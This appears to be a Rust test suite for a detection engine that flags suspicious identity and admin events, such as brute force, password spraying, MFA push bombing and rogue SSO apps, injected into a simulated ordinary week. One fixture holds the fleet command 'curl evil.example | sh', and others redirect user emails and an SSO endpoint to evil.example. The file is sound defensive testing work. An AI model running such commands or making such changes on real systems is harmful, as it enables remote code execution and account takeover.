//! Detection quality: an ordinary week of a forty-person organisation raises nothing, and
//! each attack mixed into that week is caught with one to three alerts and nothing else.

mod common;

use std::collections::BTreeSet;

use chrono::{DateTime, Duration as TimeDelta, Utc};
use common::org::{self, ADMIN, HELPDESK, HR_SYNC, people};
use jcwatch_model::{Alert, Event};
use jcwatch_rules::Engine;
use jcwatch_rules::fixtures::*;
use serde_json::json;

const SEED: u64 = 20_240_506;

fn t(text: &str) -> DateTime<Utc> {
    text.parse().expect("a time")
}

fn name(i: usize) -> String {
    people()[i].name.clone()
}

fn show(alerts: &[&Alert]) -> String {
    alerts
        .iter()
        .map(|a| format!("\n  {} [{}] {}", a.rule_id, a.event_ids.len(), a.title))
        .collect()
}

/// Runs the week with the attack mixed in; returns (alerts about the attack, other alerts).
fn run(attack: Vec<(DateTime<Utc>, Ev)>) -> (Vec<Alert>, Vec<Alert>) {
    let background = org::ordinary_week(SEED);
    let attack: Vec<Event> = org::place_in_time("attack", attack);
    let attack_ids: BTreeSet<String> = attack.iter().map(|e| e.id.clone()).collect();
    let mut all = background;
    all.extend(attack);

    let alerts = Engine::with_defaults().scan(all);

    alerts
        .into_iter()
        .partition(|a| a.event_ids.iter().any(|id| attack_ids.contains(id)))
}

fn assert_caught(name: &str, attack: Vec<(DateTime<Utc>, Ev)>, expected_rules: &[&str]) {
    assert_caught_at_most(name, attack, expected_rules, 3);
}

fn assert_caught_at_most(
    name: &str,
    attack: Vec<(DateTime<Utc>, Ev)>,
    expected_rules: &[&str],
    most: usize,
) {
    let (about, other) = run(attack);
    let about_refs: Vec<&Alert> = about.iter().collect();
    let other_refs: Vec<&Alert> = other.iter().collect();
    assert!(
        other.is_empty(),
        "{name}: alerts on ordinary activity:{}",
        show(&other_refs)
    );
    assert!(
        (1..=most).contains(&about.len()),
        "{name}: {} alerts:{}",
        about.len(),
        show(&about_refs)
    );
    let rules: BTreeSet<&str> = about.iter().map(|a| a.rule_id.as_str()).collect();
    for rule in expected_rules {
        assert!(
            rules.contains(rule),
            "{name}: {rule} not raised:{}",
            show(&about_refs)
        );
    }
}

#[test]
fn an_ordinary_week_raises_no_alert() {
    let events = org::ordinary_week(SEED);

    let alerts = Engine::with_defaults().scan(events.clone());

    let refs: Vec<&Alert> = alerts.iter().collect();
    assert!(
        events.len() > 2_000,
        "the week is busy: {} events",
        events.len()
    );
    assert!(alerts.is_empty(), "{} alerts:{}", alerts.len(), show(&refs));
}

#[test]
fn ordinary_weeks_with_other_seeds_raise_no_alert() {
    for seed in [1, 2, 3] {
        let alerts = Engine::with_defaults().scan(org::ordinary_week(seed));

        let refs: Vec<&Alert> = alerts.iter().collect();
        assert!(
            alerts.is_empty(),
            "seed {seed}: {} alerts:{}",
            alerts.len(),
            show(&refs)
        );
    }
}

// --- area 1: API keys ------------------------------------------------------------------

#[test]
fn an_old_api_key_tried_four_times_is_one_alert() {
    let attack = (0..4)
        .map(|k| {
            (
                t("2024-05-09T14:00:00Z") + TimeDelta::minutes(15 * k),
                old_api_key_attempt(ADMIN)
                    .from(&FRANKFURT_DC)
                    .ua(&PYTHON_REQUESTS),
            )
        })
        .collect();

    assert_caught("old key", attack, &["jc.apikey.old_key_attempt"]);
}

#[test]
fn the_hr_sync_key_used_from_a_new_network_is_caught() {
    let attack = (0..3)
        .map(|k| {
            (
                t("2024-05-09T14:00:00Z") + TimeDelta::minutes(k),
                admin_change("user_update", HR_SYNC)
                    .api_key()
                    .from(&MOSCOW)
                    .ua(&PYTHON_REQUESTS)
                    .on_user(&name(k as usize))
                    .change(
                        "email",
                        Some(json!("x@corp.example")),
                        json!("x@evil.example"),
                    ),
            )
        })
        .collect();

    assert_caught("stolen key", attack, &["jc.apikey.new_source"]);
}

// --- area 2: authentication and admin activity -----------------------------------------

fn failures(
    user: &str,
    count: i64,
    start: &str,
    every_secs: i64,
    from: &Place,
) -> Vec<(DateTime<Utc>, Ev)> {
    (0..count)
        .map(|k| {
            (
                t(start) + TimeDelta::seconds(every_secs * k),
                user_login_failed(user).from(from).ua(&CURL),
            )
        })
        .collect()
}

#[test]
fn a_brute_force_without_success_is_caught() {
    assert_caught(
        "brute force",
        failures(&name(4), 30, "2024-05-09T15:00:00Z", 12, &HANOI),
        &["jc.auth.brute_force"],
    );
}

#[test]
fn a_brute_force_that_succeeds_gives_both_the_attempts_and_the_success() {
    let mut attack = failures(&name(3), 25, "2024-05-09T15:00:00Z", 10, &HANOI);
    attack.push((
        t("2024-05-09T15:05:00Z"),
        user_login(&name(3)).from(&HANOI).ua(&CURL).mfa(false),
    ));

    assert_caught(
        "brute force success",
        attack,
        &["jc.auth.brute_force", "jc.login.success_after_brute_force"],
    );
}

fn spray(users: std::ops::Range<usize>, start: &str) -> Vec<(DateTime<Utc>, Ev)> {
    let sprayer = LAGOS.via("105.112.66.3");
    users
        .map(|i| {
            (
                t(start) + TimeDelta::seconds(25 * i as i64),
                user_login_failed(&name(i))
                    .from(&sprayer)
                    .ua(&PYTHON_REQUESTS),
            )
        })
        .collect()
}

#[test]
fn a_password_spray_is_caught() {
    assert_caught(
        "spray",
        spray(0..20, "2024-05-08T03:00:00Z"),
        &["jc.auth.password_spray"],
    );
}

#[test]
fn a_slow_password_spray_over_the_night_is_caught() {
    let sprayer = HANOI.via("113.160.5.200");
    let attack = (0..24)
        .map(|i| {
            (
                t("2024-05-08T20:00:00Z") + TimeDelta::minutes(20 * i as i64),
                user_login_failed(&name(i))
                    .from(&sprayer)
                    .ua(&PYTHON_REQUESTS),
            )
        })
        .collect();

    assert_caught("slow spray", attack, &["jc.auth.password_spray"]);
}

#[test]
fn a_password_spray_that_finds_a_password_is_caught() {
    let mut attack = spray(0..15, "2024-05-08T03:00:00Z");
    attack.push((
        t("2024-05-08T03:08:00Z"),
        user_login(&name(21))
            .from(&LAGOS.via("105.112.66.3"))
            .ua(&PYTHON_REQUESTS)
            .mfa(false),
    ));

    // N.B. Four alerts, each saying something of its own: the spray, its success, and two
    // about the victim's account (a first login from Nigeria on a new device, and the owner
    // logging in from Paris five hours later, faster than a plane).
    assert_caught_at_most(
        "spray success",
        attack,
        &[
            "jc.auth.password_spray",
            "jc.login.success_after_spray",
            "jc.login.impossible_travel",
        ],
        4,
    );
}

#[test]
fn a_lockout_wave_is_caught() {
    let attack = (20..25)
        .map(|i| {
            (
                t("2024-05-08T03:00:00Z") + TimeDelta::minutes(i as i64 - 20),
                Ev::new("user_lockout", "directory")
                    .by_user(&name(i))
                    .on_user(&name(i))
                    .from(&HANOI)
                    .ok(true),
            )
        })
        .collect();

    assert_caught("lockout wave", attack, &["jc.auth.lockout_wave"]);
}

#[test]
fn a_burst_of_failed_sso_logins_is_caught() {
    let attack = (0..8)
        .map(|k| {
            (
                t("2024-05-09T16:00:00Z") + TimeDelta::seconds(40 * k),
                sso_failed(
                    &name(6),
                    APPS_FOR_ATTACK[k as usize % 3],
                    "authentication failed",
                )
                .from(&SAO_PAULO)
                .ua(&FIREFOX_WINDOWS),
            )
        })
        .collect();

    assert_caught("sso burst", attack, &["jc.auth.sso_failure_burst"]);
}

const APPS_FOR_ATTACK: [&str; 3] = ["Salesforce", "GitHub", "Google Workspace"];

#[test]
fn a_new_portal_admin_is_a_did_you_expect_this() {
    let attack = vec![(
        t("2024-05-09T13:00:00Z"),
        admin_change("admin_create", ADMIN)
            .on_admin("shadow@corp.example")
            .change("roleName", None, json!("Administrator with Billing")),
    )];

    assert_caught("portal admin", attack, &["jc.admin.portal_admin_granted"]);
}

#[test]
fn a_help_desk_admin_raising_its_own_role_is_caught() {
    let attack = vec![(
        t("2024-05-09T13:00:00Z"),
        admin_change("admin_update", HELPDESK)
            .on_admin(HELPDESK)
            .change(
                "roleName",
                Some(json!("Help Desk")),
                json!("Administrator with Billing"),
            ),
    )];

    assert_caught("self escalation", attack, &["jc.admin.self_escalation"]);
}

#[test]
fn sudo_granted_through_a_device_binding_is_caught() {
    let who = name(8);
    let attack = vec![(t("2024-05-09T13:00:00Z"), admin_change("association_change", ADMIN).set("association", json!({"op": "add", "action_source": "manual",
        "attributes": {"sudo": {"enabled": true, "withoutPassword": true}},
        "connection": {"from": {"type": "system", "name": "BUILD-01", "object_id": object_id("BUILD-01")}, "to": {"type": "user", "name": who, "object_id": object_id(&who)}}})))];

    assert_caught("device sudo", attack, &["jc.admin.device_admin_granted"]);
}

#[test]
fn an_admin_created_and_deleted_within_the_hour_is_caught() {
    let attack = vec![
        (
            t("2024-05-09T13:00:00Z"),
            admin_change("admin_create", ADMIN).on_admin("tmp@corp.example"),
        ),
        (
            t("2024-05-09T13:35:00Z"),
            admin_change("admin_delete", ADMIN).on_admin("tmp@corp.example"),
        ),
    ];

    assert_caught(
        "short-lived admin",
        attack,
        &["jc.admin.created_then_deleted"],
    );
}

#[test]
fn a_mass_deletion_of_accounts_is_caught() {
    let attack = (0..15)
        .map(|i| {
            (
                t("2024-05-09T18:00:00Z") + TimeDelta::seconds(20 * i as i64),
                admin_change("user_delete", ADMIN).on_user(&name(i)),
            )
        })
        .collect();

    assert_caught("mass deletion", attack, &["jc.admin.mass_user_removal"]);
}

// --- area 3: MFA -----------------------------------------------------------------------

#[test]
fn an_admin_console_login_without_mfa_is_caught() {
    let attack = vec![(
        t("2024-05-09T21:00:00Z"),
        admin_login(ADMIN)
            .mfa(false)
            .set("mfa_meta", json!({"type": "none"}))
            .from(&LAGOS)
            .ua(&EDGE_WINDOWS),
    )];

    assert_caught(
        "admin without MFA",
        attack,
        &["jc.mfa.admin_login_without_mfa"],
    );
}

#[test]
fn mfa_removed_then_used_from_elsewhere_is_caught() {
    let who = name(9);
    let attack = vec![
        (
            t("2024-05-09T12:00:00Z"),
            admin_change("user_update", ADMIN).on_user(&who).change(
                "enable_user_portal_multifactor",
                Some(json!(true)),
                json!(false),
            ),
        ),
        (
            t("2024-05-09T12:40:00Z"),
            user_login(&who)
                .mfa(false)
                .from(&SINGAPORE)
                .ua(&EDGE_WINDOWS),
        ),
    ];

    assert_caught("MFA removed", attack, &["jc.mfa.removed_then_new_place"]);
}

#[test]
fn push_bombing_that_ends_in_an_acceptance_is_caught() {
    let who = name(10);
    let mut attack: Vec<_> = (0..6)
        .map(|k| {
            (
                t("2024-05-09T22:00:00Z") + TimeDelta::seconds(70 * k),
                push_login(&who, false)
                    .from(&SAO_PAULO)
                    .ua(&FIREFOX_WINDOWS),
            )
        })
        .collect();
    attack.push((
        t("2024-05-09T22:08:00Z"),
        push_login(&who, true).from(&SAO_PAULO).ua(&FIREFOX_WINDOWS),
    ));

    assert_caught("push fatigue", attack, &["jc.mfa.push_fatigue_accepted"]);
}

#[test]
fn a_first_wifi_login_without_mfa_for_an_mfa_user_is_caught() {
    let attack = vec![(t("2024-05-09T23:00:00Z"), radius(&name(15)).from(&HANOI))];

    assert_caught("weak path", attack, &["jc.mfa.weak_path"]);
}

// --- area 4: suspicious successful logins ----------------------------------------------

#[test]
fn impossible_travel_with_a_stolen_session_is_caught() {
    let who = name(16);
    let attack = vec![(
        t("2024-05-09T10:30:00Z"),
        sso(&who, "Salesforce")
            .from(&MOSCOW)
            .ua(&people()[16].device),
    )];

    assert_caught("impossible travel", attack, &["jc.login.impossible_travel"]);
}

#[test]
fn logins_from_three_countries_in_a_night_are_caught() {
    let who = name(17);
    let attack = vec![
        (
            t("2024-05-10T22:00:00Z"),
            sso(&who, "Slack").from(&SAO_PAULO).ua(&people()[17].device),
        ),
        (
            t("2024-05-11T01:00:00Z"),
            sso(&who, "Slack").from(&SINGAPORE).ua(&people()[17].device),
        ),
        (
            t("2024-05-11T03:00:00Z"),
            sso(&who, "Slack").from(&TOKYO).ua(&people()[17].device),
        ),
    ];

    assert_caught(
        "several countries",
        attack,
        &["jc.login.multiple_countries"],
    );
}

#[test]
fn a_first_login_from_a_new_country_on_a_new_device_is_caught() {
    let attack = vec![(
        t("2024-05-11T10:00:00Z"),
        sso(&name(18), "Salesforce")
            .from(&LAGOS)
            .ua(&EDGE_WINDOWS.clone())
            .set("useragent.name", json!("Opera")),
    )];

    assert_caught("new country", attack, &["jc.login.first_seen_country"]);
}

// --- area 5: configuration -------------------------------------------------------------

#[test]
fn routine_configuration_from_the_office_raises_nothing() {
    let routine = vec![
        (
            t("2024-05-09T10:00:00Z"),
            admin_change("application_create", ADMIN)
                .from(&org::OFFICE)
                .on("application", "Notion"),
        ),
        (
            t("2024-05-09T10:20:00Z"),
            admin_change("policy_update", HELPDESK)
                .from(&org::OFFICE)
                .on("policy", "Screen lock")
                .change("values.timeout", Some(json!(900)), json!(300)),
        ),
        (
            t("2024-05-09T10:40:00Z"),
            admin_change("iplist_update", ADMIN)
                .from(&org::OFFICE)
                .on("iplist", "Offices")
                .change("ips", Some(json!([])), json!(["82.64.10.0/24"])),
        ),
        (
            t("2024-05-09T11:00:00Z"),
            admin_change("organization_update", ADMIN)
                .from(&org::OFFICE)
                .change(
                    "settings.passwordPolicy",
                    Some(json!({"minLength": 10})),
                    json!({"minLength": 14}),
                ),
        ),
    ];

    let (about, other) = run(routine);

    let refs: Vec<&Alert> = about.iter().chain(&other).collect();
    assert!(refs.is_empty(), "{}", show(&refs));
}

#[test]
fn an_authentication_policy_deleted_is_caught() {
    let attack = vec![(
        t("2024-05-09T19:00:00Z"),
        admin_change("authnpolicy_delete", ADMIN).on("authn_policy", "Require MFA"),
    )];

    assert_caught(
        "policy deleted",
        attack,
        &["jc.config.authn_policy_deleted"],
    );
}

#[test]
fn an_authentication_policy_weakened_is_caught() {
    let attack = vec![(
        t("2024-05-09T19:00:00Z"),
        admin_change("authpolicy_update", ADMIN)
            .on("authn_policy", "Require MFA")
            .change("disabled", Some(json!(false)), json!(true)),
    )];

    assert_caught(
        "policy weakened",
        attack,
        &["jc.config.authn_policy_weakened"],
    );
}

#[test]
fn a_weaker_password_policy_is_caught() {
    let attack = vec![(
        t("2024-05-09T19:00:00Z"),
        admin_change("organization_update", ADMIN)
            .set(
                "resource",
                json!({"id": ORG, "type": "organization", "displayName": "Corp"}),
            )
            .change(
                "settings.passwordPolicy",
                Some(
                    json!({"minLength": 12, "enableMaxLoginAttempts": true, "maxLoginAttempts": 5}),
                ),
                json!({"minLength": 4, "enableMaxLoginAttempts": false, "maxLoginAttempts": 5}),
            ),
    )];

    assert_caught(
        "password policy",
        attack,
        &["jc.config.org_security_weakened"],
    );
}

#[test]
fn a_rogue_sso_application_is_a_did_you_expect_this() {
    let attack = vec![(
        t("2024-05-09T19:00:00Z"),
        admin_change("application_create", ADMIN)
            .from(&SINGAPORE.via("139.59.221.87"))
            .on("application", "Okta Sync")
            .change("config.acsUrl", None, json!("https://evil.example/acs")),
    )];

    assert_caught("rogue app", attack, &["jc.config.sso_app_changed"]);
}

#[test]
fn a_new_identity_provider_is_a_did_you_expect_this() {
    let attack = vec![(
        t("2024-05-09T19:00:00Z"),
        admin_change("idsource_create", ADMIN)
            .from(&SINGAPORE.via("139.59.221.87"))
            .on("idsource", "Partner IdP"),
    )];

    assert_caught(
        "identity provider",
        attack,
        &["jc.config.identity_provider_changed"],
    );
}

#[test]
fn a_command_pushed_to_the_fleet_is_caught() {
    let mut attack = vec![(
        t("2024-05-09T20:00:00Z"),
        admin_change("command_create", ADMIN)
            .on("command", "patch")
            .change("command", None, json!("curl evil.example | sh")),
    )];
    for i in 0..25 {
        let host = format!("LAPTOP-{i:02}");
        attack.push((
            t("2024-05-09T20:05:00Z") + TimeDelta::seconds(5 * i),
            admin_change("command_run", ADMIN)
                .on("command", "patch")
                .set("system", json!({"id": object_id(&host), "hostname": host})),
        ));
    }

    assert_caught("fleet command", attack, &["jc.config.command_fleet_run"]);
}

#[test]
fn a_trusted_address_added_to_an_ip_list_is_a_did_you_expect_this() {
    let attack = vec![(
        t("2024-05-09T19:00:00Z"),
        admin_change("iplist_update", ADMIN)
            .from(&SINGAPORE.via("139.59.221.87"))
            .on("iplist", "Trusted")
            .change(
                "ips",
                Some(json!(["82.64.10.0/24"])),
                json!(["82.64.10.0/24", "95.165.133.0/24"]),
            ),
    )];

    assert_caught("ip list", attack, &["jc.config.ip_list_changed"]);
}

#[test]
fn devices_erased_in_bulk_are_caught() {
    let attack = (0..6)
        .map(|i| {
            (
                t("2024-05-09T20:00:00Z") + TimeDelta::minutes(i),
                Ev::new("mdm_command_result", "mdm")
                    .set("mdm_device_id", json!(object_id(&format!("dev{i}"))))
                    .set("request_type", json!("EraseDevice"))
                    .ok(true),
            )
        })
        .collect();

    assert_caught("wipe", attack, &["jc.config.mass_device_wipe"]);
}
